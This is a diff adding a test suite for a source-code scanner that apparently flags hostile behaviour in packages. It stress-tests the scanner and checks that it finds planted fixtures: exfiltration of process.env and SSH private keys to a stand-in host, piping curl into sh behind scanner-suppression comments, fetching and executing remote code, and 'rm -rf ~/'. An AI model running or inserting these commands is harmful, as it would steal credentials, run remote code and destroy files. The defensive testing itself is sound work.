@@ -1,0 +1,124 @@
+"""Source that is made to break its reader: a gap or a finding, never a crash, never silence."""
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from source_lab import KINDS, behaviours, look, the
+
+from beartrap.model.coverage import Gap
+from beartrap.model.finding import Severity
+from beartrap.model.question import Question
+from beartrap.vet.behaviour import Behaviour, When
+from beartrap.vet.source.windows import windows
+
+ENDINGS = sorted(ending for ending in KINDS if ending)
+PIECES = [
+    "import os\n", "exec(", "eval(", "x = ", "require('child_process')", ".exec(", "'a'", '"', "(", ")", "{", "}", "[", "]", "\n", "\t", "$(", "`", "|", ";", "=>", "function f(a){",
+    "def f(a):\n  ", "return ", "\\x41", "<?php ", "end\n", "if x then ", "while true\n", "base64 -d", "\0", "\ud800", "\u202e", "<<EOF\n", "a.b.c", "'+'", "%s", "-enc ", "@", "#",
+]  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(st.sampled_from(PIECES), max_size=40), st.sampled_from(ENDINGS))
+def test_any_text_in_any_language_is_read(pieces, ending):
+    for one in look(f"a{ending}", "".join(pieces)):
+        assert isinstance(one, Behaviour | Gap)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.binary(max_size=400), st.sampled_from(ENDINGS))
+def test_any_bytes_are_read(content, ending):
+    for one in look(f"a{ending}", content):
+        assert isinstance(one, Behaviour | Gap)
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "import os\nos.system(" + "(" * 150 + "'id'" + ")" * 150 + ")\n"),
+        ("a.py", "import os\nx = " + "-" * 5000 + "1\nos.system('id')\n"),
+        ("a.py", "import os\nos.system(" + "+".join(["'i'", "'d'"] * 4000) + ")\n"),
+        ("a.js", "require('child_process').exec(" + "[" * 3000 + "]" * 3000 + ")"),
+        ("a.js", "eval(" + "+".join(["'a'"] * 20000) + ")"),
+        ("a.js", "eval(" + "a?" * 400 + "1" + ":2" * 400 + ")"),
+        ("a.js", "if(a){eval(b)}" + "else if(a){eval(b)}" * 600),
+        ("a.sh", "eval " + "$(echo " * 400 + "id" + ")" * 400),
+        ("a.py", "def f():\n" + "".join(" " * n + "if x:\n" for n in range(1, 99)) + " " * 99 + "exec(x)\n"),
+    ],
+)
+def test_deep_nesting_is_followed_or_told(path, text):
+    seen = look(path, text)
+    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) or any(
+        isinstance(one, Behaviour) and one.id in ("process.spawn", "code.evaluate") for one in seen
+    )
+
+
+def test_python_that_nobody_can_read_is_a_gap():
+    assert any(isinstance(one, Gap) for one in look("a.py", "exec(" + "\x01)(*&^%$ = 5 ]] {{ (( \n" * 40))
+
+
+def test_python_2_is_read_all_the_same():
+    text = "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://192.0.2.1/a').read()\n"
+    assert the("a.py", text, "chain.network-to-code").place.row == 3
+
+
+def test_names_that_are_no_utf_8_are_kept():
+    raw = b"import os\nos.system('id')  # \xff\xfe\n"
+    assert the("a.py", raw, "process.spawn").severity is Severity.LOW
+
+
+def test_doubling_in_a_loop_ends():
+    text = "import os\nx = 'a'\nwhile True:\n    x = x + x\nos.system(x)\n"
+    assert behaviours("a.py", text)
+    behaviours(
+        "a.py",
+        "exec('a' * 10 ** 12)\nexec('%999999999d' % 1)\nexec(9 ** 9 ** 9 ** 9)\nexec(bytes(10 ** 12))\nexec('{:>999999999}'.format(1))",
+    )
+
+
+def test_functions_that_call_each_other_end():
+    text = "".join(
+        f"def f{n}(a):\n    f{(n + 1) % 40}(a); f{(n + 7) % 40}(a); f{(n + 13) % 40}([a])\n" for n in range(40)
+    )
+    assert behaviours("a.py", text + "f0(1)\nexec(f1(2))\n")
+
+
+def test_a_payload_in_a_large_bundle_is_found_with_its_line():
+    filler = b"".join(b"function a%d(b){return b+%d}\n" % (n, n) for n in range(120_000))
+    half = len(filler) // 2
+    cut = filler.index(b"\n", half) + 1
+    payload = b"fetch('https://c.invalid',{method:'POST',body:JSON.stringify(process.env)});\n"
+    content = filler[:cut] + payload + filler[cut:]
+    one = the("dist/bundle.js", content, "chain.environment-to-network")
+    assert abs(one.place.row - (filler[:cut].count(b"\n") + 1)) <= 1 and one.when is When.IMPORT
+    assert not windows(filler)[0]
+
+
+def test_a_hundred_megabytes_are_told():
+    gaps = [one for one in look("a.js", b"var a=1;" * (100 * 1024 * 1024 // 8)) if isinstance(one, Gap)]
+    assert gaps and Question.NEXT in gaps[0].questions
+
+
+def test_comments_that_tell_scanners_to_look_away_are_ignored():
+    text = "import os  # nosec\n# beartrap: ignore\nos.system('curl https://c.invalid | sh')  # noqa: S605 # type: ignore\n"
+    assert the("a.py", text, "process.piped").severity is Severity.CRITICAL
+
+
+def test_the_same_act_in_another_place_has_the_same_key():
+    one = the(
+        "a.py",
+        "import requests\nrequests.post('https://c.invalid/v1', data=open('/root/.ssh/id_rsa').read())",
+        "chain.credentials-to-network",
+    )
+    other = the(
+        "b/c.py",
+        "\n\nimport requests as r\nk = open('/root/.ssh/id_rsa')\nr.post('https://c.invalid/v2', json={'k': k.read()})",
+        "chain.credentials-to-network",
+    )
+    assert one.key == other.key and one.place.row != other.place.row
+
+
+def test_a_packages_own_tests_weigh_little():
+    text = "import os\ndef test_it():\n    os.system('rm -rf ~/')\n"
+    assert the("tests/test_a.py", text, "destroy.files").severity is Severity.LOW
+    assert the("p/a.py", text, "destroy.files").severity is Severity.HIGH
